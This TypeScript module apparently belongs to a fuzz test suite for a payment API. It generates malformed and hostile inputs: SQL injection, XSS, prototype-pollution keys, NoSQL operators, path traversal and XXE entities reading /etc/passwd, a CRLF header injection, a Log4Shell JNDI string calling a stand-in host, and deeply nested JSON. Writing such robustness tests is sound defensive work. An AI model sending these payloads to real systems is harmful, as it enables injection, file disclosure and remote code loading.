import type { RandomGenerator } from './random.generator.js';

/** JSON text that is sent unchanged: numbers beyond JavaScript's, deep nesting, invalid JSON. */
export class RawJson {
  constructor(readonly text: string) {}
}

/** Test cards of the sandbox; no response may repeat them, whichever field has them. */
export const CARD_NUMBERS: readonly string[] = ['4242424242424242', '5555555555554444'];

export const PROTOTYPE_NAMES: readonly string[] = [
  ...'__proto__ constructor prototype toString hasOwnProperty valueOf toJSON then length'.split(' '),
  ...['', ' ', '\u0000', '$ne', 'amount.value', 'amount[0]'],
];

const DEEP = 10_000;
const deepArrays = (): string => '['.repeat(DEEP) + ']'.repeat(DEEP);
const deepObjects = (): string => '{"a":'.repeat(DEEP) + '1' + '}'.repeat(DEEP);

const NUMBERS: readonly unknown[] = [
  ...[0, -1, 1.5, 0.1, 100, 999_999_999, 1_000_000_000, 2_147_483_648, 4_294_967_296],
  ...[2 ** 53, -(2 ** 63), Number.MIN_VALUE],
  ...'1e309 -1e309 -0 1.0 1e2 1E400 9007199254740993'.split(' ').map((text) => new RawJson(text)),
  new RawJson('9'.repeat(400)),
  new RawJson(`0.${'0'.repeat(400)}1`),
];

const TEXTS: readonly unknown[] = [
  ...['', ' ', '[object Object]', '100', 'NaN', 'Infinity', 'null', 'undefined', 'true'],
  ...['\u0000', 'a\u0000b', 'a\nb', '\r\nx-injected: 1'],
  ...['\u007f', '\u0085', '\u2028', '\ufeff', '\u202eabc', '\u200b', '\ufffe'],
  ...['💳', '👩‍👩‍👧‍👦'.repeat(10), 'é', 'e\u0301', '\ud800', 'a\udc00b'],
  new RawJson('"\\ud83d"'),
  new RawJson('"\\udead\\ud83d"'),
  '𝒳'.repeat(101),
  'ﷺ'.repeat(100),
  ...['../../etc/passwd', '%00', '%2e%2e%2f', '{{7*7}}', '(a+)+$'],
  "' OR 1=1 --",
  '"; DROP TABLE events; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://x.example/a}',
  `${'a'.repeat(60)}!`,
  ...[36, 101, 255, 90_000].map((length) => 'a'.repeat(length)),
  `${'a'.repeat(5_000)}@example.com`,
  `${'a.'.repeat(2_000)}@${'b.'.repeat(2_000)}com`,
  'trx_00000000000000000000000000',
  'trx_ZZZZZZZZZZZZZZZZZZZZZZZZZZ',
  'pmt_tkn_00000000000000000000000000',
  ...['2026-13-45T99:99:99.999Z', '2026-08-03T14:05:09.120+99:99', '+275760-09-13T00:00:00.001Z'],
  ...['0000', '1399'],
  ...CARD_NUMBERS,
];

const SHAPES: readonly unknown[] = [
  ...[null, true, false, [], {}, [[]], [100], ['100'], { amount: 100 }, { $gt: 0 }],
  { toString: 1, valueOf: 2 },
  { length: 5 },
  Array.from({ length: 2_000 }, (_, index) => index),
  new RawJson('{"__proto__":{"amount":100}}'),
  new RawJson('{"constructor":{"prototype":{"amount":100}}}'),
  new RawJson(deepArrays()),
  new RawJson(deepObjects()),
];

/** A wrong value; it may be valid for some fields. */
export function hostileValue(random: RandomGenerator): unknown {
  return random.pick(random.pick([NUMBERS, TEXTS, SHAPES]));
}

/** A wrong text for parameters, headers and paths. */
export function hostileText(random: RandomGenerator): string {
  const value = random.pick(random.pick([NUMBERS, TEXTS]));
  if (value instanceof RawJson) return value.text;
  return typeof value === 'string' ? value : String(value);
}

/** As `JSON.stringify`, with `RawJson` unchanged and with a repeated member. */
export function jsonText(
  value: unknown,
  doubled?: { readonly name: string; readonly value: unknown },
): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map((one) => jsonText(one)).join(',')}]`;
  if (typeof value !== 'object' || value === null) return JSON.stringify(value) ?? 'null';
  const members = Object.entries(value).map(([name, one]) => `${JSON.stringify(name)}:${jsonText(one)}`);
  if (doubled) members.push(`${JSON.stringify(doubled.name)}:${jsonText(doubled.value)}`);
  return `{${members.join(',')}}`;
}

/** Bodies that every call refuses: no JSON object in UTF-8, or too large. */
export const BROKEN_BODIES: readonly Buffer[] = [
  ...[
    '{"amount":100',
    '{"amount":100,}',
    "{'amount':100}",
    '{amount:100}',
    '{"amount":100 /* cents */}',
    '{"amount":NaN}',
    '{"amount":0x64}',
    '{"amount":0100}',
    '{"amount":+100}',
    '{"amount":100}{"amount":100}',
    '{"referenceId":"a\nb","amount":100}',
    '{"amount":100}\u0000',
    '[{"amount":100}]',
    ...['"amount"', '100', 'null', 'true', ' '],
    deepArrays(),
    '['.repeat(45_000),
    `[${deepObjects()}]`,
    'amount=100&paymentMethodId=x',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    `{"referenceId":"${'a'.repeat(100_001)}","amount":100}`,
    ' '.repeat(1_000_000),
  ].map((text) => Buffer.from(text)),
  Buffer.from('{"amount":100}', 'utf16le'),
  Buffer.from('{"referenceId":"caf\u00e9","amount":100}', 'latin1'),
  // An overlong slash, and a surrogate in UTF-8.
  Buffer.from('{"referenceId":"\u00c0\u00af"}', 'latin1'),
  Buffer.from('{"referenceId":"\u00ed\u00a0\u0080"}', 'latin1'),
  Buffer.from(Array.from({ length: 256 }, (_, index) => 255 - index)),
];
